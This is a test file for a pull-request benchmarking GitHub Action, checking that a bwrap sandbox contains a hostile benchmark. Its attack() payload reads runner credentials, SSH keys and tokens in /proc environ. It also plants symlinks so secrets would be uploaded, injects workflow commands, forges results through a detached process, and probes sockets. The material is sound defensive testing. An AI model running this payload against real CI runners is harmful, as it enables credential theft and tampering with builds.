// A hostile pull request in GitHub's own runner layout: the Action released
// (a git archive, no node_modules) under ~/actions-runner, started by its
// externals/node24, mode `all`, against the GitHub stand-in. node-pr (the
// node-like build of the PR, whose benchmark file it also changes) tries
// every way out that an attacker found on an earlier version:
//
//   1. read the runner's credentials, .runner, _diag, RUNNER_TEMP, ~/.ssh
//   2. plant links in the results directory for upload-artifact to follow
//   3. issue workflow commands through its stderr (::save-state, ::add-mask::,
//      ::error, ::set-output, ##[set-output])
//   4. leave a process behind that rewrites results.csv and samples.ndjson
//   5. append forged progress records for the live comment
//   6. read the Action's tokens from /proc/<pid>/environ
//   7. connect to Unix sockets outside /run and /tmp, and abstract ones
//
// With `sandbox: bwrap` every one fails and the results are still posted;
// the same PR with `sandbox: none` shows what the sandbox stops.

import test from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { SECRETS, runnerLayout } from './helpers/release.js';
import { startGitHubStandIn } from './helpers/github-stand-in.js';
import { commitFiles, git, makeNodeLikeRepo, WORK_BENCHMARK } from './helpers/node-like-repo.js';
import { TOKEN, runAction, scenario } from './helpers/action-run.js';
import { tool } from './helpers/tools.js';
import { commandsIn } from './helpers/workflow-commands.js';
import { nodeRelease, NODE_24 } from '../scripts/node-releases.js';

const haveTools = ['make', 'cc'].every((name) => spawnSync(name, ['--version'], { stdio: 'ignore' }).status === 0);
const needs = { skip: (!haveTools && 'needs make and a C compiler') || tool('bwrap').skip, timeout: 600_000 };
const FORGED = 49801309269348;

/**
 * The attack, run by node-pr's benchmark process before it measures (only
 * under node-pr: the PR's binary exports its work factor, 2). It says what it
 * managed on stderr, `ATTACK <what>: <outcome>`.
 */
function attack({ layout, results, socket, abstract }) {
  const readable = [path.join(layout.runner, '.credentials'), path.join(layout.runner, '.credentials_rsaparams'),
    path.join(layout.runner, '.runner'), path.join(layout.runner, '_diag'), layout.temp,
    path.join(layout.home, '.ssh', 'id_ed25519')];
  return `
if (process.env.NODE_LIKE_WORK === '2' && !process.env.NBA_ATTACKED) {
  process.env.NBA_ATTACKED = '1';
  const fs = require('fs');
  const cp = require('child_process');
  const say = (what, outcome) => process.stderr.write('ATTACK ' + what + ': ' + outcome + '\\n');
  say('ran', process.pid);
  for (const file of ${JSON.stringify(readable)}) {
    try {
      const stat = fs.statSync(file);
      say('read', file + ' ' + (stat.isDirectory() ? fs.readdirSync(file).join(',') : fs.readFileSync(file, 'utf8')));
    } catch (err) { say('unreadable', file + ' ' + err.code); }
  }
  let tokens = 0;
  for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
    try { if (fs.readFileSync('/proc/' + pid + '/environ', 'latin1').includes(${JSON.stringify(TOKEN)})) tokens++; } catch {}
  }
  say('proc-token', tokens);
  for (const [name, target] of [['leak', ${JSON.stringify(path.join(layout.runner, '.credentials_rsaparams'))}],
      ['ssh', ${JSON.stringify(path.join(layout.home, '.ssh', 'id_ed25519'))}]]) {
    try { fs.symlinkSync(target, ${JSON.stringify(results)} + '/' + name); say('linked', name); }
    catch (err) { say('no-link', name + ' ' + err.code); }
  }
  try {
    fs.appendFileSync(${JSON.stringify(path.join(results, 'samples.ndjson'))},
      JSON.stringify({ type: 'progress', done: 3, planned: ${FORGED}, eta: 1 }) + '\\n');
    say('forged-progress', 'yes');
  } catch (err) { say('forged-progress', 'no ' + err.code); }
  cp.spawn(process.execPath, ['-e', \`setTimeout(() => {
    try { require('fs').appendFileSync(${JSON.stringify(path.join(results, 'results.csv'))},
      '"new","fixture/work.js","n=2000000",1e15,0.000001\\\\n'); } catch {}
  }, 1500)\`], { detached: true, stdio: 'ignore' }).unref();
  for (const line of ['::save-state name=governors::{"cpu0":"pwned"}', '::save-state name=machine-root::/pwned',
    '::add-mask::the', '::error file=README.md::pwned', '::set-output name=regressions::pwned',
    '##[set-output name=improvements;]pwned', '  ::warning::pwned']) {
    process.stderr.write(line + '\\n');
    process.stdout.write(line + '\\n');
  }
  for (const address of [${JSON.stringify(socket)}, ${JSON.stringify(`\0${abstract}`)}]) {
    const client = require('net').connect(address);
    client.on('connect', () => { say('socket', 'connected ' + JSON.stringify(address)); client.end(); });
    client.on('error', (err) => say('socket', 'refused ' + err.code));
  }
  const until = Date.now() + 300;
  while (Date.now() < until) {} // let the connections settle before the benchmark goes on
}
`;
}

/** Listens on a Unix socket and an abstract one, counting connections. */
async function listeners(t, dir) {
  const socket = path.join(dir, `nba-sock-${process.pid}`);
  const abstract = `nba-abstract-${process.pid}-${Date.now()}`;
  let connections = 0;
  const servers = [net.createServer(() => { connections++; }), net.createServer(() => { connections++; })];
  await Promise.all([new Promise((resolve) => { servers[0].listen(socket, () => resolve(undefined)); }),
    new Promise((resolve) => { servers[1].listen(`\0${abstract}`, () => resolve(undefined)); })]);
  t.after(() => { for (const server of servers) server.close(); fs.rmSync(socket, { force: true }); });
  return { socket, abstract, connections: () => connections };
}

/** Every file under `dir`: its path and whether it is a regular file (lstat: links are not followed). */
function entries(dir) {
  return fs.readdirSync(dir, { recursive: true }).map(String).map((name) => {
    const stat = fs.lstatSync(path.join(dir, name));
    return { name, regular: stat.isFile(), directory: stat.isDirectory() };
  });
}

async function hostileRun(t, { place, sandbox }) {
  const layout = runnerLayout(t, { node: await nodeRelease(NODE_24), place });
  const results = path.join(layout.workspace, 'benchmark-results');
  const varTmp = fs.existsSync('/var/tmp') ? '/var/tmp' : path.dirname(layout.home);
  const listening = await listeners(t, varTmp);
  const repo = makeNodeLikeRepo({ prWork: 2 });
  git(repo.dir, 'checkout', '--quiet', 'pr');
  repo.headSha = commitFiles(repo.dir, { 'benchmark/fixture/work.js': WORK_BENCHMARK.replace("'use strict';\n",
    `'use strict';\n${attack({ layout, results, socket: listening.socket, abstract: listening.abstract })}`) },
  'pr: a hostile benchmark');
  const gh = await startGitHubStandIn(scenario(repo));
  t.after(() => gh.close());
  const result = await runAction({
    gh, repoDir: repo.dir, comment: '/benchmark fixture --runs 4', node: layout.node, entry: layout.entry,
    runnerTemp: layout.temp, inputs: { 'sandbox': sandbox, 'results-dir': results, 'governor': 'keep' },
    env: { HOME: layout.home, RUNNER_TEMP: layout.temp, GITHUB_WORKSPACE: layout.workspace,
      RUNNER_TOOL_CACHE: path.join(layout.runner, '_work', '_tool') },
  });
  // The process the attack left behind had time to act.
  await new Promise((resolve) => setTimeout(resolve, 2500));
  const log = result.stdout + result.stderr;
  const bodies = gh.requests.filter((r) => typeof r.body?.body === 'string').map((r) => r.body.body);
  return { layout, results, log, bodies, result, gh, connections: listening.connections() };
}

for (const place of /** @type {const} */ (['home', 'custom'])) {
  const where = place === 'home' ? '~/actions-runner (GitHub\'s setup)' : 'a runner directory of its own';
  test(`sandbox: bwrap, runner in ${where}: a hostile node-pr reads no credentials, plants no link, issues no ` +
    'workflow command, rewrites nothing, and the results are posted', needs, async (t) => {
    const { results, log, bodies, result, connections } = await hostileRun(t, { place, sandbox: 'bwrap' });
    assert.equal(result.code, 0, log);
    assert.match(log, /ATTACK ran: \d+/, 'the attack ran');
    // 1, 6: nothing of the runner's, no token.
    assert.doesNotMatch(log, /ATTACK read /, 'nothing was readable');
    // Each of node-pr's processes (the one learning configurations, each run pass) tried every place.
    const tries = log.match(/ATTACK ran: /g)?.length ?? 0;
    assert.equal(log.match(/ATTACK unreadable: \S+ ENOENT/g)?.length, 6 * tries, 'each place tried is absent');
    assert.match(log, /ATTACK proc-token: 0/);
    for (const [name, secret] of Object.entries({ ...SECRETS, token: TOKEN })) {
      const where = [['the log', log.replaceAll(`::add-mask::${TOKEN}`, '')], ['a comment', bodies.join('\n')],
        ['the results', entries(results).filter((e) => e.regular)
          .map((e) => fs.readFileSync(path.join(results, e.name), 'utf8')).join('\n')]];
      for (const [place, text] of where) assert.ok(!text.includes(secret), `${name} reached ${place}`);
    }
    // 2, 4, 5: the results directory holds only our regular files.
    assert.match(log, /ATTACK no-link: leak ENOENT/);
    assert.deepEqual(entries(results).filter((e) => !e.regular && !e.directory), []);
    assert.doesNotMatch(fs.readFileSync(path.join(results, 'results.csv'), 'utf8'), /1e15/);
    assert.doesNotMatch(fs.readFileSync(path.join(results, 'samples.ndjson'), 'utf8'), new RegExp(String(FORGED)));
    assert.ok(!bodies.some((body) => body.includes(String(FORGED))), 'no forged progress reached the comment');
    // 3: every attack line stayed text.
    const { commands, closed } = commandsIn(log);
    assert.ok(closed, 'every frame is closed');
    assert.deepEqual(commands.filter((c) => /pwned|::add-mask::the$/.test(c)), [], commands.join('\n'));
    assert.match(log, /::save-state name=governors::\{"cpu0":"pwned"\}/, 'the attempt is in the log, as text');
    assert.equal(result.state.includes('pwned'), false, 'no state was saved for the post step');
    assert.equal(result.outputs.regressions, '1');
    // 7: no socket outside reached.
    assert.equal(connections, 0);
    assert.doesNotMatch(log, /ATTACK socket: connected/);
    assert.equal(log.match(/ATTACK socket: refused E\w+/g)?.length, 2 * tries, 'both sockets tried');
    // The results were posted.
    const final = bodies.at(-1) ?? '';
    assert.match(final, /\*\*Benchmark: 1 of 1 configuration regressed \(5% false discovery rate\): `[^`]+` -\d+\.\d%/);
  });
}

test('sandbox: none, the same node-pr: what the sandbox stops, seen (credentials, links, the surviving writer)', needs,
  async (t) => {
    const { results, log, connections } = await hostileRun(t, { place: 'home', sandbox: 'none' });
    assert.match(log, /ATTACK ran: \d+/);
    assert.ok(log.includes(SECRETS.credentials), 'the runner\'s credentials were readable');
    assert.match(log, /ATTACK linked: leak/);
    assert.ok(connections >= 1, 'a socket outside was reached');
    // Only regular files of ours leave the machine, even so: the links are gone, and named.
    assert.deepEqual(entries(results).filter((e) => !e.regular && !e.directory), []);
    assert.match(log, /::warning::Removed from the results directory \S+ what the run step did not write, so that it is not uploaded: .*"leak" \(a symbolic link\), "ssh" \(a symbolic link\)/);
    // Workflow commands stay text without a sandbox too.
    assert.deepEqual(commandsIn(log).commands.filter((c) => /pwned/.test(c)), []);
  });
